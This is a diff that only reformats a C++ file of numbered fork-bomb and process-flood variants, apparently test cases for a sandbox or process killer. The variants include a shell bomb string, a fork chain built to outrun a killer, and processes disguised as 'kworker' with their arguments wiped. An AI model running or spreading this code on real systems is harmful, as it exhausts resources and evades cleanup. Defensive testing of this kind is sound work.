@@ -29,14 +29,14 @@ namespace {
 void attack(const World&) {
   for (;;) fork();
 }
-#elif TRICK == 2  // every child forks twice and spins
+#elif TRICK == 2   // every child forks twice and spins
 void attack(const World&) {
   while (fork() >= 0) {
     if (fork() == 0) continue;
   }
   spin();
 }
-#elif TRICK == 3  // vfork and exec in a loop
+#elif TRICK == 3   // vfork and exec in a loop
 void attack(const World&) {
   for (;;) {
     if (vfork() == 0) {
@@ -45,14 +45,14 @@ void attack(const World&) {
     }
   }
 }
-#elif TRICK == 4  // clone with shared memory
+#elif TRICK == 4   // clone with shared memory
 void attack(const World&) {
   for (;;) {
     char* stack = static_cast<char*>(malloc(1 << 16));
     if (stack != nullptr) clone(cloned, stack + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, nullptr);
   }
 }
-#elif TRICK == 5  // posix_spawn of shells
+#elif TRICK == 5   // posix_spawn of shells
 void attack(const World&) {
   const char* arguments[] = {"sh", "-c", "sleep 1000", nullptr};
   for (;;) {
@@ -60,27 +60,27 @@ void attack(const World&) {
     posix_spawn(&child, "/bin/sh", nullptr, nullptr, const_cast<char**>(arguments), environ);
   }
 }
-#elif TRICK == 6  // the classic shell bomb
+#elif TRICK == 6   // the classic shell bomb
 void attack(const World&) {
   for (;;) {
     if (system("b(){ b|b& };b") != 0) spin();
   }
 }
-#elif TRICK == 7  // sleeping threads without end
+#elif TRICK == 7   // sleeping threads without end
 void attack(const World&) {
   for (;;) {
     pthread_t thread;
     pthread_create(&thread, nullptr, sleeping_thread, nullptr);
   }
 }
-#elif TRICK == 8  // spinning threads without end
+#elif TRICK == 8   // spinning threads without end
 void attack(const World&) {
   for (;;) {
     pthread_t thread;
     pthread_create(&thread, nullptr, spinning_thread, nullptr);
   }
 }
-#elif TRICK == 9  // fork and exec of itself
+#elif TRICK == 9   // fork and exec of itself
 void attack(const World& world) {
   for (;;) {
     if (fork() == 0) execv("/proc/self/exe", world.arguments());
@@ -138,7 +138,8 @@ void attack(const World&) {
     if (fork() == 0) _exit(0);
   }
 }
-#elif TRICK == 18  // a chain: each process forks the next and dies, to outrun a killer that goes from pid to pid
+#elif TRICK == \
+    18  // a chain: each process forks the next and dies, to outrun a killer that goes from pid to pid
 void attack(const World&) {
   for (;;) {
     if (fork() != 0) _exit(0);
@@ -169,7 +170,8 @@ void attack(const World& world) {
   for (int i = 0; i < 4; ++i) {
     if (fork() != 0) continue;
     prctl(PR_SET_NAME, "kworker/0:1");
-    for (char** argument = world.arguments(); *argument != nullptr; ++argument) memset(*argument, 0, strlen(*argument));
+    for (char** argument = world.arguments(); *argument != nullptr; ++argument)
+      memset(*argument, 0, strlen(*argument));
     spin();
   }
 }
